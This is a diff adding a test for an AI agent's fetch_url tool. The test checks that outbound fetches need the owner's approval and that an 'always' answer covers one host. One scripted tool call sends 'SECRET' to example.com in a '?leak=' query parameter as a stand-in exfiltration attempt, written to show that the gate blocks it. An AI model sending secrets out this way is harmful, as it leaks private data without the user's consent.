@@ -154,3 +154,29 @@ test("a link swapped while the owner is being asked does not redirect the approv
   expect(run.outcome!.text).toContain("changed on disk");
   expect(run.outcome!.text).not.toContain("never show this");
 });
+
+test("fetch_url is the owner's call every time: nobody there means nothing leaves; 'always' covers one host", async () => {
+  const { createFetchUrlTool } = await import("../net/fetch-url.ts");
+  const { runtime } = setup({ "a.txt": "a\n" });
+  const fetched: string[] = [];
+  const fetchUrl = createFetchUrlTool({
+    resolve: async () => [{ address: "93.184.216.34", family: 4 }],
+    fetch: async (url) => {
+      fetched.push(url);
+      return new Response("<title>ok</title><p>page</p>", { headers: { "content-type": "text/html" } });
+    },
+  });
+  const script = (): ScriptedTurn[] => [
+    { toolCalls: [{ name: "fetch_url", input: { url: "https://example.com/?leak=SECRET" } }, { name: "fetch_url", input: { url: "https://example.com/two" } }] },
+    (ctx) => ({ text: lastToolResults(ctx.prompt).map((r) => r.output).join("\n") }),
+  ];
+  const refused = await AgentRun.start(runtime, "ask", "look it up", { approver: nobodyApprover, emit: () => {} }, { models: scripted(script()).models, extraTools: [fetchUrl] });
+  expect(fetched).toEqual([]);
+  expect(refused.outcome!.text).toContain("refused to let fetch_url reach example.com");
+
+  const asked: string[] = [];
+  const always = { async ask(q: { subject: string }) { asked.push(q.subject); return { kind: "always" as const }; } };
+  await AgentRun.start(runtime, "ask", "look it up", { approver: always, emit: () => {} }, { models: scripted(script()).models, extraTools: [fetchUrl] });
+  expect(asked).toEqual(["https://example.com/?leak=SECRET"]);
+  expect(fetched).toHaveLength(2);
+});
